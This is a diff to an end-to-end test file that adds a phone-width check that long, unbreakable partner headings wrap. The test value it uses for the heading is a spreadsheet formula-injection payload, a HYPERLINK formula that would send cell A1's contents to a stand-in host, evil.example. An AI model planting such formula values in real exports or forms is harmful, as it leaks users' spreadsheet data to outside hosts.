@@ -140,4 +140,20 @@ test.describe("at 390 px", () => {
     expect(failures).toEqual([]);
     expect(hydration).toEqual([]);
   });
+
+  test("a heading with no place to break (a pasted address) wraps instead of widening the page", async ({ page }) => {
+    const name = `=HYPERLINK("http://evil.example/?x="&A1,"Үрімжі")${Date.now()}`;
+    const made = await page.request.post("/partners/new", {
+      form: { kind: "city", countryCode: "CN", nameEn: name },
+      maxRedirects: 0,
+    });
+    expect(made.status()).toBe(302);
+    const partner = made.headers().location;
+    for (const url of [partner, `${partner}/briefing`]) {
+      await page.goto(url);
+      await expect(page.getByRole("heading", { level: 1 })).toContainText("evil.example");
+      const { scrollWidth, wide } = await overflow(page);
+      expect(scrollWidth, `${url}: ${wide.join(", ")}`).toBeLessThanOrEqual(PHONE.width);
+    }
+  });
 });
